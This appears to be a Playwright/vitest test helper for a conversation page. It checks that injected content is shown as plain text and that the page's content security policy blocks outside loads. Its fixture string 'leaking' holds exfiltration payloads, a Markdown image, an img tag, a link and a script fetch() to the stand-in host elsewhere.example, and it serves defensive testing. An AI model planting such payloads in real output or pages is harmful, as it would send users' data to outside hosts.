// A text that tries to take something out of the page: it is shown as text, nothing of it is loaded, and what were loaded would be stopped.
import type { Page, Request } from 'playwright-core'
import { expect } from 'vitest'
import type { Visitor } from './clinic-process.ts'

/** An image of Markdown, one of HTML, a link and a script; each would carry what it knows to another place. */
export const leaking =
  'It hurts ![x](https://elsewhere.example/leak?d=1) <img src="https://elsewhere.example/leak?d=2"> [here](https://elsewhere.example/3) <script>fetch("https://elsewhere.example/4")</script>.'

/** Gives the places elsewhere that a page has asked for so far. */
export function asksElsewhere(page: Page, home: string): string[] {
  const asked: string[] = []
  page.on('request', (request: Request) => {
    if (/^https?:/.test(request.url()) && !request.url().startsWith(home)) asked.push(request.url())
  })
  return asked
}

/** Looks at a page that shows the text above; `asked` is what it was seen to ask for. */
export async function mustLoadNothingElsewhere({ page, complaints }: Visitor, asked: readonly string[]): Promise<void> {
  // In the conversation and in what was drafted of it.
  await expect.poll(() => page.locator('main').getByText('elsewhere.example').count()).toBeGreaterThan(1)
  expect(await page.locator('[src*="elsewhere"], [href*="elsewhere"], main script').count()).toBe(0)
  expect(asked).toEqual([])
  // If an image came to stand there all the same, the policy of the page would stop it.
  const stopped = await page.evaluate(`new Promise((done) => {
    const image = new Image()
    document.addEventListener('securitypolicyviolation', (event) => {
      image.remove()
      done(event.effectiveDirective)
    }, { once: true })
    image.src = 'https://elsewhere.example/leak?d=5'
    document.body.append(image)
  })`)
  expect(stopped).toBe('img-src')
  expect(complaints.splice(0)).toEqual([expect.stringContaining('elsewhere.example')])
}
